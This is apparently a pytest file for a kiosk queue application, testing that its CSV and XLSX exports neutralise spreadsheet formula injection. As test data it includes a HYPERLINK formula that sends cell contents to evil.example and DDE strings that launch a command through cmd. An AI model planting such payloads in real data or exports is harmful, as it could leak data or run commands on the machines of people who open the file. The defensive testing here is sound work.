"""Formula injection: text a visitor, clerk or admin typed is never run by the spreadsheet
that opens an export (CSV or XLSX), and phone numbers stay whole."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import update

from kiosk.extensions import db
from queue_engine.core.models import Counter
from tests.web.staff_login import log_in

LINK = '=HYPERLINK("http://evil.example/?d="&G2&H2,"Details")'
TYPED = {
    "customer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact": "+86 138 0013 8000",
    "description": "-2+3+cmd|' /C calc'!A0",
    "notes": "=1+1",
}


def _served_and_rated(client, auth, take_ticket, counter: int = 1) -> dict:
    take_ticket("A")
    clerk = auth(f"clerk{counter}")
    ticket = client.post(f"/api/v1/counters/{counter}/call-next", headers=clerk).get_json()["ticket"]
    finished = client.post(
        f"/api/v1/tickets/{ticket['token']}/finish", headers=clerk, json={"outcome": "resolved", **TYPED}
    )
    assert finished.status_code == 200, finished.get_json()
    rated = client.post(f"/api/v1/tickets/{ticket['token']}/rating", json={"score": 1, "comment": LINK})
    assert rated.status_code == 201, rated.get_json()
    return ticket


def _no_cell_is_a_formula(cells: list[str]) -> None:
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_the_visits_csv_shows_typed_text_as_text(app, client, auth, take_ticket):
    _served_and_rated(client, auth, take_ticket)
    supervisor = app.test_client()
    log_in(supervisor, "supervisor")
    answer = supervisor.get("/visits.csv?from=2026-01-05&to=2026-01-05")
    assert answer.status_code == 200
    header, row = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    record = dict(zip(header, row, strict=True))
    _no_cell_is_a_formula(row)
    assert record["rating_comment"] == "'" + LINK
    assert record["customer_name"] == "'" + TYPED["customer_name"]
    assert record["description"] == "'" + TYPED["description"]
    assert record["notes"] == "'" + TYPED["notes"]
    assert record["contact"] == "'+86 138 0013 8000"  # the whole number, read as text


def test_the_ratings_export_shows_the_comment_as_text(client, auth, take_ticket):
    _served_and_rated(client, auth, take_ticket)
    answer = client.get("/api/v1/ratings?from=2026-01-05&format=csv", headers=auth("supervisor"))
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert [row["comment"] for row in rows] == ["'" + LINK]
    for row in rows:
        _no_cell_is_a_formula(list(row.values()))


def test_the_report_exports_show_an_admins_names_as_text(app, client, auth, take_ticket):
    with app.app_context():
        db.session.execute(update(Counter).where(Counter.id == 1).values(name=LINK))
        db.session.commit()
    _served_and_rated(client, auth, take_ticket)
    supervisor = app.test_client()
    log_in(supervisor, "supervisor")

    as_csv = supervisor.get("/supervisor/reports.csv?from=2026-01-05")
    rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True).lstrip("\ufeff"))))
    keys = [row[1] for row in rows]
    assert "'" + LINK in keys
    for row in rows:
        _no_cell_is_a_formula(row)

    as_xlsx = supervisor.get("/supervisor/reports.xlsx?from=2026-01-05")
    sheet = load_workbook(io.BytesIO(as_xlsx.data)).active
    named = [row[1] for row in sheet.iter_rows(min_row=2) if row[1].value == LINK]
    assert named, "the counter's name is in the workbook, unchanged"
    for cell in named:
        assert cell.data_type == "s" and cell.quotePrefix  # text, not a formula
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
